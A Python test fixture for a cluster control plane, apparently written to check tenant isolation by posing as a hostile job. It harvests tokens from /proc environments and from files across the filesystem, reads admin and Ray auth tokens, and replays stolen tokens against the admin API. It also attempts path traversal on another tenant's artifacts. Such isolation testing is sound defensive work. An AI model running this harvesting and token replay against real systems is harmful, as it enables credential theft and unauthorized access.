"""A hostile tenant's job (run by tests/controlplane/test_security.py through a default
``spotplane up``): it scans what any job can reach for the control plane's secrets, store and
Ray, uses whatever it finds, and prints one JSON line ``HOSTILE {...}`` saying what it got.

It is told only what is no secret: the API's URL (every tenant has it), where ``up`` keeps its
state and log (``ps`` shows them on a shared host), the GCS addresses listening on this machine
(a port scan finds them) and a victim tenant's job id. Everything else it finds by itself."""

from __future__ import annotations

import json
import os
import re
import sqlite3
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

TOKEN = re.compile(r"spa_[A-Za-z0-9_\-]{8,}")
SECRET_NAMES = {"endpoint.json", "admin-token", "spotplane.db", "auth_token", "up.log"}
SKIP = {"/proc", "/sys", "/dev"}
MAX_FILES = 300_000
FIRST = ("/tmp", "/root", "/home", "/run", "/var", "/etc", "/work", "/")  # where secrets live first


def attempt(fn: Any) -> str:
    try:
        return f"GOT {fn()!r}"[:300]
    except BaseException as e:  # noqa: BLE001 - every failure is the answer
        return f"FAILED {type(e).__name__}: {e}"[:300]


def scan_proc() -> dict[str, Any]:
    """Every process it can see: their command lines, and any token in their environments."""
    seen: dict[str, str] = {}
    tokens: set[str] = set()
    unreadable = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            seen[pid] = cmd[:200]
            tokens |= set(TOKEN.findall(cmd))
            tokens |= set(TOKEN.findall(Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")))
        except OSError:
            unreadable += 1
    return {"processes": seen, "tokens": sorted(tokens), "unreadable": unreadable}


def scan_files() -> dict[str, Any]:
    """A walk of the whole file system it sees, where secrets live first, for files named like
    the control plane's secrets and logs."""
    found: dict[str, str] = {}
    tokens: set[str] = set()
    walked, done = 0, set(SKIP)
    for top in FIRST:
        for root, dirs, files in os.walk(top, onerror=lambda e: None):
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in done]
            done.add(root)
            for name in files:
                walked += 1
                if name in SECRET_NAMES or name.endswith(".log"):
                    path = os.path.join(root, name)
                    try:
                        tokens |= set(TOKEN.findall(Path(path).read_bytes()[:1_000_000].decode(errors="replace")))
                        found[path] = "read"
                    except OSError as e:
                        found[path] = f"FAILED {type(e).__name__}"
            if walked > MAX_FILES:
                return {"files": found, "tokens": sorted(tokens), "walked": walked}
    return {"files": found, "tokens": sorted(tokens), "walked": walked}


def write_store(path: Path) -> str:
    conn = sqlite3.connect(str(path), timeout=2)
    try:
        conn.execute("BEGIN IMMEDIATE")
        n = conn.execute("UPDATE tenants SET name = name").rowcount
        conn.rollback()
        return f"updated {n} tenants"
    finally:
        conn.close()


def by_path(state_dir: Path, up_log: Path) -> dict[str, str]:
    """What it gets knowing where ``up`` keeps its state and its log."""
    return {
        "listing": attempt(lambda: sorted(os.listdir(state_dir))),
        "store": attempt(lambda: write_store(state_dir / "spotplane.db")),
        "endpoint": attempt(lambda: (state_dir / "endpoint.json").read_text()[:100]),
        "admin_token": attempt(lambda: (state_dir / "admin-token").read_text()[:100]),
        "log": attempt(lambda: up_log.read_text()[-100:]),
        "ray_token": attempt(lambda: Path("/root/.ray/auth_token").read_text()[:100]),
    }


def join_gcs(gcs: str, token_file: str | None) -> str:
    """Join ``gcs`` with a token file (None: without a token) and list its named actors."""
    probe = ("import ray; ray.init(address=%r, log_to_driver=False); "
             "print('ACTORS', sorted(a['name'] for a in ray.util.list_named_actors(all_namespaces=True)))")
    env = dict(os.environ, RAY_gcs_server_port_wait_time_s="3")
    env.pop("RAY_ADDRESS", None)
    if token_file is None:
        env["RAY_AUTH_MODE"] = "disabled"
    else:
        env.update(RAY_AUTH_MODE="token", RAY_AUTH_TOKEN_PATH=token_file)
    try:
        r = subprocess.run([sys.executable, "-c", probe % gcs], capture_output=True, text=True,
                           timeout=90, env=env)
    except subprocess.TimeoutExpired:
        return "FAILED timeout"
    line = next((ln for ln in r.stdout.splitlines() if ln.startswith("ACTORS")), "")
    return f"GOT {line}" if r.returncode == 0 and line else f"FAILED rc={r.returncode}"


def use_tokens(api: str, tokens: list[str]) -> dict[str, list[int]]:
    """Each token found, against the admin API: list every job, create a tenant."""
    out: dict[str, list[int]] = {}
    for token in tokens:
        codes = []
        for method, path, body in (("GET", "/v1/jobs?limit=1000", None),
                                   ("POST", "/v1/tenants", b'{"name": "pwned"}')):
            req = urllib.request.Request(api + path, data=body, method=method, headers={
                "Authorization": f"Bearer {token}", "Content-Type": "application/json"})
            try:
                with urllib.request.urlopen(req, timeout=30) as r:
                    codes.append(r.status)
            except urllib.error.HTTPError as e:
                codes.append(e.code)
        out[token[:12]] = codes
    return out


def main(api: str, victim_job: str, state_dir: str, up_log: str, gcs_addresses: str) -> None:
    out: dict[str, Any] = {"env": dict(os.environ), "uid": os.getuid()}
    out["proc"] = scan_proc()
    out["fs"] = scan_files()
    out["by_path"] = by_path(Path(state_dir), Path(up_log))
    token_files = sorted({os.environ.get("RAY_AUTH_TOKEN_PATH", ""), *(
        p for p, how in out["fs"]["files"].items() if p.endswith("auth_token") and how == "read")} - {""})
    out["gcs"] = {f"{gcs} {tf}": join_gcs(gcs, tf)
                  for gcs in json.loads(gcs_addresses) for tf in [None, *token_files]}
    tokens = sorted(set(out["proc"]["tokens"]) | set(out["fs"]["tokens"]))
    out["tokens"] = tokens
    out["api"] = use_tokens(api, tokens)
    from clusters.artifacts import open_store

    store = open_store(os.environ["SPOTPLANE_ARTIFACT_URI"])
    out["artifact_uri"] = os.environ["SPOTPLANE_ARTIFACT_URI"]
    out["other_list"] = attempt(lambda: store.list(victim_job))
    out["other_restore"] = attempt(lambda: store.restore_latest(victim_job))
    out["other_traversal"] = attempt(lambda: store.list(f"../../{victim_job}"))
    print("HOSTILE " + json.dumps(out), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:6])
